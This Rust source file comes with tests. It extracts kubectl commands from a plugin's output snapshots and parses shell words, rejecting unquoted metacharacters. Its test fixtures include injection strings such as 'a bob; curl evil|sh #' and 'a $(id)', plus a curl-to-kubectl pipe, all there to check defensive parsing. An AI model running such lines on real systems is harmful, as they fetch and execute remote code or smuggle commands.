//! The commands that stand in what a plugin says, and the words that a shell would make of them.

/// What comes before a command that stands in no backticks.
const ANNOUNCED: [&str; 3] = [": ", ":  ", "    "];

/// The commands of kubectl that a snapshot tells somebody to type; those that the test itself has typed are left out.
pub fn told(snapshot: &str) -> Vec<String> {
    let said = snapshot.lines().filter(|line| !line.starts_with("$ "));
    let mut found: Vec<String> = said.flat_map(of_line).collect();
    found.sort();
    found.dedup();
    found
}

fn of_line(line: &str) -> Vec<String> {
    let quoted = line.split('`').skip(1).step_by(2);
    let mut found: Vec<String> = quoted
        .filter(|command| {
            command
                .split(['|', ';'])
                .any(|part| part.trim_start().starts_with("kubectl "))
        })
        .map(str::to_owned)
        .collect();
    found.extend(bare(line).map(str::to_owned));
    found
}

/// The command at the end of a line such as `To end it now:    kubectl share-db revoke pg`, or of an example in the help.
fn bare(line: &str) -> Option<&str> {
    let (before, _) = line.split_once("kubectl ")?;
    let is_example = before == "  ";
    let is_announced = ANNOUNCED.iter().any(|end| before.ends_with(end))
        && before.trim_end().ends_with(':')
        && !before.starts_with("Usage:");
    let is_whole = !before.contains('`');
    (is_whole && (is_example || is_announced)).then(|| &line[before.len()..])
}

/// The words of each command of a line, as a shell gives them to programs; what a redirection names is left out.
///
/// # Errors
/// What a shell would not take as it is meant.
pub fn words(line: &str) -> Result<Vec<Vec<String>>, String> {
    let mut commands = vec![Vec::new()];
    let mut word: Option<String> = None;
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match rest.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err("a quote is not closed".into()),
                    }
                }
            }
            '\\' => word
                .get_or_insert_default()
                .push(rest.next().ok_or("nothing follows a backslash")?),
            ' ' => end(&mut commands, &mut word),
            '|' if word.is_none() => commands.push(Vec::new()),
            '>' if word.is_none() => {
                let file: String = rest.by_ref().skip_while(|c| *c == ' ').collect();
                if file.contains(|c: char| !is_plain(c)) {
                    return Err(format!("`{file}` is no file to write to"));
                }
            }
            c if is_plain(c) => word.get_or_insert_default().push(c),
            // The rest of an example is a comment.
            '#' if word.is_none() => break,
            c => return Err(format!("`{c}` is not quoted")),
        }
    }
    end(&mut commands, &mut word);
    Ok(commands)
}

fn end(commands: &mut [Vec<String>], word: &mut Option<String>) {
    if let (Some(word), Some(command)) = (word.take(), commands.last_mut()) {
        command.push(word);
    }
}

fn is_plain(c: char) -> bool {
    c.is_alphanumeric() || "._:/@=,+-%".contains(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_found_where_people_are_told_them() {
        let snapshot = "\
$ kubectl share-db pg --with bob
hint: see it: `kubectl get pods -n a`, or `rm x`; then `kubectl deploy-app web`
hint: look first, then: `curl -fsSL https://example.test | kubectl deploy-app -f -`
To end it now:    kubectl share-db revoke pg --with bob
web is stopped: it has no pods. To start it: kubectl deploy-app web --replicas 1
Usage: kubectl share-db list [OPTIONS]
       kubectl share-db list | extend
  # a comment
  kubectl share-db list
the kubeconfig is for kubectl alone";
        assert_eq!(
            told(snapshot),
            [
                "curl -fsSL https://example.test | kubectl deploy-app -f -",
                "kubectl deploy-app web",
                "kubectl deploy-app web --replicas 1",
                "kubectl get pods -n a",
                "kubectl share-db list",
                "kubectl share-db revoke pg --with bob",
            ]
        );
    }

    #[test]
    fn words_are_those_of_a_shell() {
        let both = |line| words(line).unwrap();
        assert_eq!(both("a 'b  c' d'e'\\ f"), [["a", "b  c", "de f"]]);
        assert_eq!(
            both("a -f x | b -f - > app.yaml"),
            [["a", "-f", "x"], ["b", "-f", "-"]]
        );
        assert_eq!(both("a ''"), [["a", ""]]);
    }

    #[test]
    fn what_is_not_quoted_is_seen() {
        for line in [
            "a bob; curl evil|sh #",
            "a $(id)",
            "a x|sh",
            "a x>y",
            "a ~/x*",
            "a 'b",
            "a <domain>",
            "a $HOME",
            "a b &",
            "a > $x",
        ] {
            assert!(words(line).is_err(), "{line}");
        }
    }
}
